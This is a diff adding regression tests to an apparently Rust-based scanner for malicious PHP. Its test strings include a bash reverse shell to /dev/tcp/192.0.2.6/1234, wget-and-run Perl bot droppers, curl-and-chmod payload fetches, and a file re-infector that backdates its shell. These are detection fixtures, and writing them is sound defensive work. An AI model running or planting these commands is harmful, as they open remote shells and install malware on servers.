@@ -284,6 +284,15 @@ fn backdating_and_self_deletion_are_found() {
     let stomp = "<?php $t = filemtime('../wp-config.php'); $s = file_get_contents('../wp-config.php'); \
                  file_put_contents('../wp-config.php', str_replace('a', 'b', $s)); touch('../wp-config.php', $t, $t);";
     assert_eq!(whys(stomp), [(Why::BackdatesFiles, Danger::Medium)]);
+    // Regression: fresh103's re-infector, padded past a small script, puts its shell back
+    // read-only and dated 237 days back; a test suite's fixture dates stay weak.
+    let pad = "$pad[] = 1; ".repeat(120);
+    let keep = format!(
+        "<?php {pad}\nif (md5_file($f) != $sum) {{ copy($src, $f); chmod($f, 0444); @touch($f, strtotime('-237 days', time())); }}"
+    );
+    assert_eq!(whys(&keep), [(Why::BackdatesFiles, Danger::High)]);
+    let fixture = keep.replace("0444", "0644");
+    assert_eq!(whys(&fixture), [(Why::BackdatesFiles, Danger::Low)]);
 }
 
 #[test]
@@ -484,6 +493,19 @@ fn droppers_are_found() {
     assert_eq!(found(code), [Why::WritesCodeWithInput]);
     let download = "<?php system('cd /tmp; wget http://203.0.113.9/bot.pl -O b.pl; perl b.pl');";
     assert_eq!(found(download), [Why::DownloadsProgram]);
+    // Regression: fresh103's AnakDompu keeps its Perl bot as text (`perl x.txt`).
+    let as_text = "<?\n@passthru('cd /tmp;wget http://203.0.113.6/id/n.txt;perl n.txt;rm -f n.txt*');";
+    assert_eq!(found(as_text), [Why::DownloadsProgram]);
+    // Regression: fresh103's back-connect, one command run by `exec` (and the file passes the
+    // cheap look before tokens, which had none of its words).
+    let back = "<?php exec('/bin/bash -c \"bash -i >& /dev/tcp/192.0.2.6/1234 0>&1\"'); ?>";
+    assert_eq!(found(back), [Why::RemoteShell]);
+    assert!(super::may_match(back.as_bytes()));
+    // A port checked with bash's `/dev/tcp` starts no shell for anyone.
+    let probe = "<?php exec('timeout 1 bash -c \"echo > /dev/tcp/127.0.0.1/3306\" && echo open', $out);";
+    assert!(found(probe).is_empty(), "{:?}", found(probe));
+    let readme = "<?php exec('wget https://example.org/notes.txt -O notes.txt; cat notes.txt');";
+    assert!(found(readme).is_empty(), "{:?}", found(readme));
     let chmod = "<?php $c = 'curl -s -o /tmp/k https://bad.example/k && chmod +x /tmp/k'; shell_exec($c);";
     assert_eq!(found(chmod), [Why::DownloadsProgram]);
     let pieces = "<?php $u = 'http://203.0.113.9/k'; exec('wget ' . 'http://203.0.113.9/k' . ' -O /tmp/k; chmod 755 /tmp/k; /tmp/k');";
